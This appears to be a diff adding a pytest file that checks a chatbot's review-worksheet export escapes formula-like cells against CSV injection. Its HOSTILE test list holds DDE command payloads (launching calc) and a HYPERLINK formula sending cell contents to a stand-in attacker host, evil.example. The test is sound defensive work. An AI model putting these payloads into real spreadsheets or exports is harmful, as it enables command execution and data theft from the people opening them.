@@ -1,0 +1,71 @@
+"""review.csv carries users' messages: formula-like cells must stay text in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+from datetime import datetime
+from pathlib import Path
+
+import pytest
+
+from bot.quality.review import (
+    FORMULA_PREFIXES,
+    group_misses,
+    load_misses,
+    record_miss,
+    spreadsheet_safe,
+    write_worksheet,
+)
+from bot.store.database import CaseStore
+
+NOW = datetime(2026, 11, 26, 10, 0)
+HOSTILE = [
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(1+9)*cmd|"/C calc"!A0',
+    '=HYPERLINK("http://evil.example/?q="&A1,"点我查进度")',
+]
+BENIGN = ["审核要多久", "POS机 = 刷卡机吗", "'已经有引号"]
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+86 138", "'+86 138"),
+        ("-5", "'-5"),
+        ("@ops", "'@ops"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("审核要多久", "审核要多久"),
+        ("a=1", "a=1"),
+        ("", ""),
+    ],
+)
+def test_spreadsheet_safe(value: str, expected: str) -> None:
+    assert spreadsheet_safe(value) == expected
+
+
+def test_worksheet_neutralises_formula_cells(store: CaseStore, tmp_path: Path) -> None:
+    with store.session() as session:
+        for number, text in enumerate(HOSTILE + BENIGN):
+            record_miss(
+                session, sender_id=f"s{number}", text=text, guess="=evil()", confidence=0.1,
+                now=NOW,
+            )  # fmt: skip
+    with store.session() as session:
+        groups = group_misses(load_misses(session), max_groups=1)
+
+    markdown, table = write_worksheet(groups, tmp_path / "review")
+
+    with table.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    examples = [row["example"] for row in rows]
+    assert sorted(examples) == sorted([f"'{text}" for text in HOSTILE] + BENIGN)
+    assert {row["suggested_intent"] for row in rows} == {"'=evil()"}
+    assert not [
+        cell for row in rows for cell in row.values() if str(cell).startswith(FORMULA_PREFIXES)
+    ]
+    # The markdown is for pasting into data/nlu/: it keeps the messages as they were.
+    assert "=cmd|' /C calc'!A0" in markdown.read_text(encoding="utf-8")
